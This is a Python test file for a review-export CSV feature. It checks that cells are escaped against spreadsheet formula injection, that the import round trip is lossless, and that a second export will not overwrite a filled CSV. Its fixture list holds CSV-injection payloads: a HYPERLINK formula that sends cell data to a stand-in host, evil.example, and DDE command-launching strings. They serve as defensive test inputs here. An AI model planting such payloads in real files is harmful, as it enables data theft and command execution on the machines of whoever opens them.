"""`judgeloop review export` CSV hardening: a cell a spreadsheet would evaluate (=, +, -, @, tab, CR) is
written with a leading ' (OWASP), the import strips exactly that prefix (the round trip is lossless), and a
second export never overwrites an earlier one (its review.csv may hold a reviewer's labels)."""

import csv
import json

import pytest

import judgeloop
from data.schema import Item, JudgeRef, Verdict
from data.spec import load_spec
from serve.verdict_log import VerdictLog, as_url
from workflows.review import CSV_FILE, csv_cell, csv_text, import_review, read_review_table

SPEC = "helpfulness-pairwise"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain apostrophe",
    "''two",
    "a = b, no formula",
    "",
]


def texts_of(i: int) -> dict:
    return {
        "instruction": FORMULAS[i % len(FORMULAS)],
        "response_a": FORMULAS[(i + 1) % len(FORMULAS)],
        "response_b": FORMULAS[(i + 2) % len(FORMULAS)] or "b",
    }


@pytest.fixture
def log(tmp_path):
    """A verdict log whose items carry every formula start (no model: rows written directly)."""
    db = tmp_path / "verdicts.sqlite"
    vlog = VerdictLog(as_url(db))
    judge = JudgeRef(name=SPEC, fingerprint="f" * 64)
    for i in range(len(FORMULAS)):
        item = Item(id=f"i{i}", group=f"g{i}", kind="pairwise", **texts_of(i))
        verdict = Verdict(id=item.id, verdict="A", probs={"A": 0.6, "B": 0.3, "tie": 0.1}, confidence=0.6, judge=judge)
        vlog.log(item, verdict)
    vlog.flush()
    vlog.close()
    return db


def export(log, out):
    return judgeloop.main(
        ["review", "export", f"--judge={SPEC}", f"--n={len(FORMULAS)}", f"--log={log}", f"--out={out}"]
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_cell_escape_round_trips_and_never_starts_a_formula(text):
    cell = csv_cell(text)
    assert csv_text(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_exported_cells_are_neutralised_and_the_import_reads_the_original_texts(log, tmp_path):
    out = tmp_path / "review"
    assert export(log, out) == 0
    raw = list(csv.reader(open(out / CSV_FILE, newline="", encoding="utf-8")))
    cells = [c for row in raw[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], "a cell a spreadsheet evaluates"
    assert '\'=HYPERLINK("http://evil.example/?"&A1, "click")' in cells and "'''two" in cells
    manifest = json.loads((out / "review-manifest.json").read_text())
    for _, row in read_review_table(out / CSV_FILE):  # the import's reader: exactly the prefix is stripped
        item = manifest["items"][row["review_id"]]["item"]
        for field in ("instruction", "response_a", "response_b"):
            assert row[field] == item.get(field, ""), field


def test_a_label_typed_after_the_escape_imports(log, tmp_path):
    out = tmp_path / "review"
    assert export(log, out) == 0
    rows = list(csv.DictReader(open(out / CSV_FILE, newline="", encoding="utf-8")))
    for i, row in enumerate(rows):
        row["label"] = "'A" if i % 2 else "B"  # a spreadsheet user quoting a cell the same way
    with open(out / CSV_FILE, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    n, unlabelled = import_review(out / CSV_FILE, load_spec(SPEC), tmp_path / "reviewed.jsonl")
    assert (n, unlabelled) == (len(FORMULAS), 0)
    reviewed = [json.loads(line) for line in (tmp_path / "reviewed.jsonl").read_text().splitlines()]
    assert {r["label"] for r in reviewed} == {"A", "B"}
    assert {r["instruction"] for r in reviewed} == set(FORMULAS)  # the manifest's texts, unchanged


def test_a_second_export_refuses_to_overwrite_a_filled_review_csv(log, tmp_path, capsys):
    out = tmp_path / "review"
    assert export(log, out) == 0
    filled = (out / CSV_FILE).read_text(encoding="utf-8").replace("\r\n", ",A\r\n", 3)
    (out / CSV_FILE).write_text(filled, encoding="utf-8")
    capsys.readouterr()
    assert export(log, out) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and str(out / CSV_FILE) in err[0] and "not overwriting" in err[0] and "--out" in err[0]
    assert (out / CSV_FILE).read_text(encoding="utf-8") == filled
    assert export(log, tmp_path / "elsewhere") == 0
